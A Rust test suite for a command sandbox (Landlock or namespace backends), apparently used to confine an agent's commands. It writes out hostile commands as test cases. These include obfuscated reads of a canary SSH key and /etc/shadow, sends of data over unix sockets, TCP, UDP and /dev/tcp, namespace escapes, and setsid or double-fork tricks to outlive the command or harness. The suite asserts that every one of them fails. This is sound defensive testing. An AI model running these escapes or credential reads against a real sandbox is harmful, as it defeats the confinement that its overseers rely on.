//! The kernel boundary under attack, on both backends: reads outside the allow-list through
//! paths no static check can see, unix sockets, new namespaces, processes left behind, and a
//! harness that dies. Every command goes straight to `sandboxed_command` — no classifier.

use lrab_safety::{sandboxed_command, KernelSupport, Sandbox, SandboxPolicy as Policy};
use std::io::Read;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const CANARY: &str = "CANARY-HOME-KEY-b71c";

fn backends() -> Vec<Sandbox> {
    let k = KernelSupport::get();
    println!("kernel: {}", k.summary());
    let mut v = Vec::new();
    if let s @ Sandbox::Landlock { .. } = Sandbox::detect() {
        v.push(s);
    }
    if Sandbox::named("namespaces").is_ok() {
        v.push(Sandbox::Namespaces);
    }
    assert!(
        !v.is_empty(),
        "no confinement on this machine: {}",
        k.summary()
    );
    v
}

/// root/{home/.ssh/id_rsa, sibling/notes.txt, work/, tmp/}
struct Layout {
    _d: tempfile::TempDir,
    root: PathBuf,
    work: PathBuf,
    tmp: PathBuf,
    home: PathBuf,
}

fn layout() -> Layout {
    let d = tempfile::tempdir().unwrap();
    let root = d.path().canonicalize().unwrap();
    let (work, tmp, home) = (root.join("work"), root.join("tmp"), root.join("home"));
    for p in [&work, &tmp, &home.join(".ssh"), &root.join("sibling")] {
        std::fs::create_dir_all(p).unwrap();
    }
    std::fs::write(home.join(".ssh/id_rsa"), CANARY).unwrap();
    std::fs::write(home.join(".bashrc"), CANARY).unwrap();
    std::fs::write(root.join("sibling/notes.txt"), CANARY).unwrap();
    std::fs::write(work.join("mine.txt"), "inside the workdir\n").unwrap();
    Layout {
        _d: d,
        root,
        work,
        tmp,
        home,
    }
}

struct Out {
    code: Option<i32>,
    text: String,
}

fn run_cmd(mut c: Command, timeout: Duration) -> Out {
    c.stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().expect("spawn");
    let start = Instant::now();
    let st = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        if start.elapsed() > timeout {
            let _ = child.kill();
            break child.wait().unwrap();
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    let mut text = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    Out {
        code: st.code(),
        text,
    }
}

fn sandboxed(l: &Layout, b: &Sandbox, cmd: &str) -> Out {
    let policy = Policy {
        force: Some(b.clone()),
        ..Policy::default()
    };
    let (mut c, used) = sandboxed_command(cmd, &l.work, &l.tmp, &policy).unwrap();
    assert_eq!(&used, b);
    c.env("HOME", &l.home);
    run_cmd(c, Duration::from_secs(60))
}

#[test]
fn reads_outside_the_allow_list_fail_in_the_kernel() {
    let attacks = [
        r#"cat "$(dirname "$PWD")/home/.ssh/id_rsa""#,
        r#"cat ~/.ssh/id_rsa; cat "$HOME/.bashrc""#,
        r#"d=$(dirname "$PWD"); cat $d/../$(basename "$d")/home/.ssh/id_rsa"#,
        r#"bash -c 'set -- x "$(dirname "$PWD")/home/.ssh/id_rsa"; n=2; cat "${!n}"'"#,
        r#"bash -c 'p=(h o m e); declare -n r=p; cat ../$(printf %s "${r[@]}")/.ssh/id_rsa'"#,
        r#"cat ..\/home\/.ssh\/id_rsa; cat ../sibling/notes.txt"#,
        r#"echo ../home/.ssh/id_rsa | xargs sh -c 'cat "$0"'"#,
        r#"python3 -c "import os; p=os.sep.join([os.path.dirname(os.getcwd()),'ho'+'me','.ssh','id_'+'rsa']); print(open(p).read())""#,
        r#"python3 -c "import pathlib; print(pathlib.Path('..', 'sib' + 'ling', 'notes.txt').read_text())""#,
        r#"grep -r CANARY "$(dirname "$PWD")"; find .. -name id_rsa -exec cat {} \;"#,
        r#"tar cf - -C .. home 2>/dev/null | tar xf - -O"#,
        r#"ln -s ../home/.ssh/id_rsa l; cat l; ln ../home/.ssh/id_rsa h; cat h"#,
        r#"cat /proc/1/environ /proc/self/root$(dirname "$PWD")/home/.ssh/id_rsa"#,
        r#"cat /etc/shadow; ls /root; cat /root/.ssh/* 2>&1 | head -c 300"#,
    ];
    for b in backends() {
        let l = layout();
        for a in attacks {
            let o = sandboxed(&l, &b, a);
            assert!(
                !o.text.contains(CANARY),
                "{b:?}: `{a}` read a canary: {}",
                o.text
            );
        }
        // everything outside still intact, nothing copied in
        assert_eq!(
            std::fs::read_to_string(l.home.join(".ssh/id_rsa")).unwrap(),
            CANARY
        );
        assert!(
            !l.work.join("h").exists()
                || !std::fs::read_to_string(l.work.join("h"))
                    .unwrap_or_default()
                    .contains(CANARY)
        );
        // init (pid 1) is a copy of this process that never execs: its environment stays closed
        let o = sandboxed(
            &l,
            &b,
            "tr '\\0' '\\n' < /proc/1/environ; cat /proc/1/maps | head -3",
        );
        assert!(
            !o.text.contains("CARGO_PKG_NAME"),
            "{b:?}: init's environment is readable: {}",
            o.text
        );
        // control: the same kind of command works inside
        let o = sandboxed(&l, &b, r#"cat "$PWD/mine.txt" && cat ../work/mine.txt"#);
        assert_eq!(o.code, Some(0), "{b:?}: {}", o.text);
        assert!(o.text.contains("inside the workdir"));
        let _ = &l.root;
    }
}

#[test]
fn task_tools_still_work() {
    // (what must exist on the host, the command): a machine without pytest or node skips
    // those lines, but most must run
    let cmds = [
        ("python3 -V", "python3 -c 'import json, sqlite3, ssl, sys; print(sys.version_info[0])'"),
        ("python3 -m pytest --version", "python3 -m pytest --version && printf 'def test_a():\\n    assert 1\\n' > test_a.py && python3 -m pytest -q test_a.py"),
        ("git --version", "git init -q . && git add -A && git -c user.email=a@b -c user.name=n commit -qm x && git log --oneline | wc -l"),
        ("true", "printf 'a\\nb\\n' > t.txt && sed -i s/a/c/ t.txt && grep -c c t.txt && ls -la | head -3 && wc -l t.txt && find . -name t.txt | xargs cat"),
        ("python3 -m pip --version", "python3 -m venv --without-pip --system-site-packages .venv && .venv/bin/python -c 'import sys; print(sys.prefix)' && .venv/bin/python -m pip --version"),
        ("node --version", "node -e 'console.log(require(\"os\").cpus().length > 0)'"),
        ("python3 -V", "python3 -c 'import multiprocessing as m; p=m.Pool(2); print(sum(p.map(abs, [-1, 2])))'"),
        ("python3 -V", "python3 -c 'import asyncio; asyncio.run(asyncio.sleep(0)); import socket; a, b = socket.socketpair(); a.send(b\"x\"); print(b.recv(1))'"),
        ("python3 -V", "python3 -c 'import tempfile; print(open(tempfile.mkstemp()[1], \"w\").write(\"x\"))'"),
        ("true", "cat /etc/passwd >/dev/null && echo x > /dev/null && head -c 4 /dev/urandom | wc -c && nproc && id -u"),
        // a fixed port is fine: the command has a network namespace of its own
        ("python3 -V", "python3 -m http.server 18631 --bind 127.0.0.1 >/dev/null 2>&1 & sleep 1; python3 -c \"import urllib.request as u; print(u.urlopen('http://127.0.0.1:18631/').status)\""),
    ];
    let host: Vec<&str> = cmds
        .iter()
        .filter(|(probe, _)| {
            let mut h = Command::new("sh");
            h.arg("-c").arg(probe);
            run_cmd(h, Duration::from_secs(60)).code == Some(0)
        })
        .map(|(_, c)| *c)
        .collect();
    assert!(
        host.len() + 3 >= cmds.len(),
        "only {host:?} can run on this host at all"
    );
    for b in backends() {
        let l = layout();
        for c in &host {
            let o = sandboxed(&l, &b, c);
            assert_eq!(o.code, Some(0), "{b:?}: `{c}` failed:\n{}", o.text);
        }
    }
}

#[test]
fn unix_sockets_reach_nothing() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener};
    for b in backends() {
        let l = layout();
        // a pathname listener in /tmp (outside the workdir), an abstract one, a datagram one
        let outside = tempfile::tempdir().unwrap();
        let path = outside.path().join("daemon.sock");
        let pl = UnixListener::bind(&path).unwrap();
        let name = format!("lrab-test-{}", std::process::id());
        let al = UnixListener::bind_addr(&SocketAddr::from_abstract_name(name.as_bytes()).unwrap())
            .unwrap();
        let dpath = outside.path().join("dgram.sock");
        let dl = UnixDatagram::bind(&dpath).unwrap();
        for s in [&pl, &al] {
            s.set_nonblocking(true).unwrap();
        }
        dl.set_nonblocking(true).unwrap();
        let attacks = [
            format!("python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); s.send(b'LEAK'); print('SENT')\"", path.display()),
            format!("python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\0{name}'); s.send(b'LEAK'); print('SENT')\""),
            format!("python3 -c \"import socket; s=socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'LEAK', '{}'); print('SENT')\"", dpath.display()),
            format!("python3 -c \"import socket; a,b=socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'LEAK', '{}'); print('SENT')\"", dpath.display()),
            // the kernel turns a SOCK_RAW unix socket into a datagram one
            format!("python3 -c \"import socket; a,b=socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW); a.sendto(b'LEAK', '{}'); print('SENT')\"", dpath.display()),
            format!("python3 -c \"import socket; s=socket.socket(socket.AF_UNIX, socket.SOCK_RAW); s.sendto(b'LEAK', '{}'); print('SENT')\"", dpath.display()),
            format!("cat /etc/hostname | nc -U {} ; echo done", path.display()),
        ];
        for a in &attacks {
            let o = sandboxed(&l, &b, a);
            assert!(!o.text.contains("SENT"), "{b:?}: `{a}`: {}", o.text);
        }
        assert!(
            pl.accept().is_err(),
            "{b:?}: the pathname listener got a connection"
        );
        assert!(
            al.accept().is_err(),
            "{b:?}: the abstract listener got a connection"
        );
        let mut buf = [0u8; 16];
        assert!(
            dl.recv(&mut buf).is_err(),
            "{b:?}: the datagram socket got a message"
        );
    }
}

/// The host's address on its default route (no packet is sent), if it has one.
fn host_address() -> Option<std::net::IpAddr> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("10.255.255.255:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_unspecified() && !ip.is_loopback()).then_some(ip)
}

#[test]
fn no_tcp_or_udp_reaches_the_host_by_default() {
    use std::net::{TcpListener, UdpSocket};
    for b in backends() {
        let l = layout();
        let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
        let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        udp.set_nonblocking(true).unwrap();
        let (tp, up) = (
            tcp.local_addr().unwrap().port(),
            udp.local_addr().unwrap().port(),
        );
        let mut hosts = vec!["127.0.0.1".to_string()];
        hosts.extend(host_address().map(|a| a.to_string()));
        // a datagram "sent" inside the private network goes nowhere: only the host socket can
        // tell, checked below
        for h in &hosts {
            let attacks = [
                format!("python3 -c \"import socket; s=socket.create_connection(('{h}',{tp}),timeout=2); s.send(b'LEAK'); print('SENT')\""),
                format!("python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'LEAK', ('{h}',{up}))\""),
                format!("bash -c 'echo LEAK > /dev/udp/{h}/{up}; echo LEAK > /dev/tcp/{h}/{tp}' 2>&1"),
                format!("curl -s --max-time 2 http://{h}:{tp}/ ; echo done"),
            ];
            for a in &attacks {
                let o = sandboxed(&l, &b, a);
                assert!(!o.text.contains("SENT"), "{b:?}: `{a}`: {}", o.text);
            }
        }
        let py6 = format!("python3 -c \"import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'LEAK', ('::1',{up}))\" 2>&1; true");
        sandboxed(&l, &b, &py6);
        std::thread::sleep(Duration::from_millis(200));
        assert!(
            tcp.accept().is_err(),
            "{b:?}: the TCP listener got a connection"
        );
        let mut buf = [0u8; 16];
        assert!(
            udp.recv_from(&mut buf).is_err(),
            "{b:?}: the UDP socket got a datagram"
        );
        // control: with the network allowed the same datagram arrives (the test can fail)
        let policy = Policy {
            force: Some(b.clone()),
            network: true,
            ..Policy::default()
        };
        let send = format!("python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'LEAK', ('127.0.0.1',{up}))\"");
        let (c, _) = sandboxed_command(&send, &l.work, &l.tmp, &policy).unwrap();
        assert_eq!(run_cmd(c, Duration::from_secs(60)).code, Some(0));
        let t0 = Instant::now();
        let got = loop {
            match udp.recv_from(&mut buf) {
                Ok((n, _)) => break buf[..n].to_vec(),
                Err(_) if t0.elapsed() < Duration::from_secs(5) => {
                    std::thread::sleep(Duration::from_millis(20))
                }
                Err(e) => panic!("{b:?}: the control datagram never arrived: {e}"),
            }
        };
        assert_eq!(got, b"LEAK");
    }
}

#[test]
fn no_new_namespaces_and_no_capabilities() {
    for b in backends() {
        let l = layout();
        for a in [
            "unshare -Ur true",
            "unshare -n true",
            "unshare -m true",
            "unshare -p -f true",
            "nsenter -t 1 -n true",
            "python3 -c 'import ctypes; l=ctypes.CDLL(None); import sys; sys.exit(0 if l.unshare(0x10000000)==0 else 1)'",
        ] {
            let o = sandboxed(&l, &b, a);
            assert_ne!(o.code, Some(0), "{b:?}: `{a}` succeeded: {}", o.text);
        }
        let o = sandboxed(
            &l,
            &b,
            "grep -E 'CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp:' /proc/self/status",
        );
        assert!(
            o.text.contains("CapEff:\t0000000000000000"),
            "{b:?}: {}",
            o.text
        );
        assert!(
            o.text.contains("CapBnd:\t0000000000000000"),
            "{b:?}: {}",
            o.text
        );
        assert!(
            o.text.contains("NoNewPrivs:\t1") && o.text.contains("Seccomp:\t2"),
            "{b:?}: {}",
            o.text
        );
    }
}

/// Host processes whose command line contains `marker`.
fn alive_with(marker: &str) -> Vec<String> {
    let mut v = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        if let Ok(c) = std::fs::read(e.path().join("cmdline")) {
            let c = String::from_utf8_lossy(&c).replace('\0', " ");
            if c.contains(marker) {
                v.push(format!("{}: {c}", e.file_name().to_string_lossy()));
            }
        }
    }
    v
}

/// The `sleep` processes carrying `marker` (the shell, its forked subshell and setsid/nohup
/// before their exec carry the marker too, some only for a moment: counting them would let a
/// test go on before every escape attempt has taken effect).
fn sleeps_with(marker: &str) -> usize {
    alive_with(marker)
        .iter()
        .filter(|p| {
            p.split_once(": ")
                .is_some_and(|(_, c)| c.starts_with("sleep "))
        })
        .count()
}

fn marker() -> String {
    let n = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!(
        "1000.{:09}",
        n % 1_000_000_000 + std::process::id() as u32 % 1000
    )
}

#[test]
fn nothing_outlives_the_command() {
    for b in backends() {
        let l = layout();
        let m = marker();
        let cmd = format!(
            "nohup sleep {m} >/dev/null 2>&1 & setsid sleep {m} & (sleep {m} &) & sleep {m} & disown; \
             python3 -c \"import os,time\nif os.fork()==0:\n  os.setsid()\n  os.execvp('sleep',['sleep','{m}'])\" ; sleep 0.3; exit 7"
        );
        let o = sandboxed(&l, &b, &cmd);
        assert_eq!(
            o.code,
            Some(7),
            "{b:?}: the command's exit code: {}",
            o.text
        );
        assert_eq!(alive_with(&m), Vec::<String>::new(), "{b:?}: left running");
    }
}

#[test]
fn a_timeout_kill_takes_everything() {
    for b in backends() {
        let l = layout();
        let m = marker();
        let policy = Policy {
            force: Some(b.clone()),
            ..Policy::default()
        };
        let cmd = format!("setsid nohup sleep {m} & (sleep {m} &); sleep {m}");
        let (mut c, _) = sandboxed_command(&cmd, &l.work, &l.tmp, &policy).unwrap();
        c.stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let mut child = c.spawn().unwrap();
        let sleeps = || sleeps_with(&m);
        let t0 = Instant::now();
        while sleeps() < 3 && t0.elapsed() < Duration::from_secs(30) {
            std::thread::sleep(Duration::from_millis(20));
        }
        assert!(
            sleeps() >= 3,
            "{b:?}: the sleeps never started: {:?}",
            alive_with(&m)
        );
        // only the spawned child is killed, as a timeout does
        child.kill().unwrap();
        let st = child.wait().unwrap();
        assert_eq!(st.code(), None);
        let t0 = Instant::now();
        while !alive_with(&m).is_empty() && t0.elapsed() < Duration::from_secs(5) {
            std::thread::sleep(Duration::from_millis(20));
        }
        assert_eq!(
            alive_with(&m),
            Vec::<String>::new(),
            "{b:?}: left running after the kill"
        );
    }
}

/// Sweeps reuse workdir names: a workdir deleted and made again must get its rule on the new
/// directory (a rule cached on the old inode would make every write fail), and another
/// workdir confined by the same process must not reach the first one.
#[test]
fn a_workdir_made_again_under_the_same_name_stays_writable() {
    for b in backends() {
        let l = layout();
        assert_eq!(sandboxed(&l, &b, "echo 1 > a.txt").code, Some(0));
        std::fs::remove_dir_all(&l.work).unwrap();
        std::fs::create_dir_all(&l.work).unwrap();
        let o = sandboxed(&l, &b, "echo FIRST-WORKDIR-b7 > b.txt && cat b.txt");
        assert_eq!(
            o.code,
            Some(0),
            "{b:?}: the new workdir is not writable: {}",
            o.text
        );
        assert_eq!(
            std::fs::read_to_string(l.work.join("b.txt")).unwrap(),
            "FIRST-WORKDIR-b7\n"
        );
        let other = l.root.join("work2");
        std::fs::create_dir_all(&other).unwrap();
        let policy = Policy {
            force: Some(b.clone()),
            ..Policy::default()
        };
        let cmd = "echo 3 > c.txt; echo x > ../work/evil.txt; cat ../work/b.txt";
        let (c, _) = sandboxed_command(cmd, &other, &l.tmp, &policy).unwrap();
        let o = run_cmd(c, Duration::from_secs(60));
        assert!(other.join("c.txt").exists(), "{b:?}: {}", o.text);
        assert!(
            !l.work.join("evil.txt").exists(),
            "{b:?}: wrote into another workdir"
        );
        assert!(
            !o.text.contains("FIRST-WORKDIR"),
            "{b:?}: read another workdir: {}",
            o.text
        );
    }
}

#[test]
fn the_commands_status_is_passed_on() {
    for b in backends() {
        let l = layout();
        assert_eq!(sandboxed(&l, &b, "exit 3").code, Some(3));
        assert_eq!(sandboxed(&l, &b, "true").code, Some(0));
        let policy = Policy {
            force: Some(b.clone()),
            ..Policy::default()
        };
        let (mut c, _) = sandboxed_command("kill -9 $$", &l.work, &l.tmp, &policy).unwrap();
        let st = c.status().unwrap();
        use std::os::unix::process::ExitStatusExt;
        assert_eq!(st.signal(), Some(9), "{b:?}: {st:?}");
    }
}

/// When run as the fake harness (env set), spawn a confined command that leaves processes
/// behind, say so, and wait to be killed.
#[test]
fn fake_harness_entry() {
    let Ok(m) = std::env::var("LRAB_FAKE_HARNESS_MARKER") else {
        return;
    };
    let b = if std::env::var("LRAB_FAKE_HARNESS_NS").is_ok() {
        Sandbox::Namespaces
    } else {
        Sandbox::detect()
    };
    let dir = PathBuf::from(std::env::var("LRAB_FAKE_HARNESS_DIR").unwrap());
    let policy = Policy {
        force: Some(b),
        ..Policy::default()
    };
    let cmd = format!("setsid nohup sleep {m} >/dev/null 2>&1 & (sleep {m} &) ; sleep {m}");
    let (mut c, _) = sandboxed_command(&cmd, &dir, &dir, &policy)
        .unwrap_or_else(|e| panic!("fake harness: no confined command: {e}"));
    let mut child = c
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("fake harness: spawning the confined command: {e}"));
    eprintln!("fake harness: spawned the confined command");
    // waits until this fake harness is killed (the command sleeps far longer)
    let _ = child.wait();
}

#[test]
fn nothing_outlives_a_killed_harness() {
    for b in backends() {
        let d = tempfile::tempdir().unwrap();
        let m = marker();
        let mut h = Command::new(std::env::current_exe().unwrap());
        h.args([
            "--exact",
            "fake_harness_entry",
            "--nocapture",
            "--test-threads=1",
        ])
        .env("LRAB_FAKE_HARNESS_MARKER", &m)
        .env("LRAB_FAKE_HARNESS_DIR", d.path())
        .stdout(Stdio::null());
        // what the fake harness says (a panic in it), for the failure message; not in `d`, which
        // is the confined command's workdir
        let err_file = tempfile::NamedTempFile::new().unwrap();
        h.stderr(err_file.reopen().unwrap());
        let said = || std::fs::read_to_string(err_file.path()).unwrap_or_default();
        if b == Sandbox::Namespaces {
            h.env("LRAB_FAKE_HARNESS_NS", "1");
        }
        // its own process group, so the kill below reaches only the fake harness
        h.process_group(0);
        let mut harness = h.spawn().unwrap();
        // Wait for the three sleeps — every escape (setsid, a double fork, the foreground
        // command) in place — as long as the fake harness lives. A start-up slowed by a busy
        // machine only takes longer; a fake harness that failed ends the wait at once with its
        // own words. The deadline is only the backstop for a hang.
        let t0 = Instant::now();
        while sleeps_with(&m) < 3 {
            if let Some(st) = harness.try_wait().unwrap() {
                panic!(
                    "{b:?}: the fake harness ended ({st}) before its command started: {}",
                    said()
                );
            }
            assert!(
                t0.elapsed() < Duration::from_secs(120),
                "{b:?}: the fake harness never started its command within {:?}; alive: {:?}; it said: {}",
                t0.elapsed(),
                alive_with(&m),
                said()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        // SAFETY: SIGKILL to our own child process only.
        unsafe {
            libc::kill(harness.id() as i32, libc::SIGKILL);
        }
        harness.wait().unwrap();
        // what outlives the kill sleeps for 1000 s: waiting longer on a busy machine cannot
        // hide it
        let t0 = Instant::now();
        while !alive_with(&m).is_empty() && t0.elapsed() < Duration::from_secs(20) {
            std::thread::sleep(Duration::from_millis(20));
        }
        assert_eq!(
            alive_with(&m),
            Vec::<String>::new(),
            "{b:?}: outlived the harness"
        );
    }
}

#[test]
fn this_kernel_is_reported() {
    let k = KernelSupport::get();
    println!("{}", k.summary());
    for g in k.gaps() {
        println!(
            "gap: {} → {} (fatal: {})",
            g.feature, g.consequence, g.fatal
        );
    }
    assert_eq!(Sandbox::detect() == Sandbox::None, !k.confines());
    if !k.confines() {
        let p = Policy::default();
        let e = sandboxed_command("true", Path::new("/tmp"), Path::new("/tmp"), &p).unwrap_err();
        assert!(e.0.contains("refusing"), "{}", e.0);
    }
}
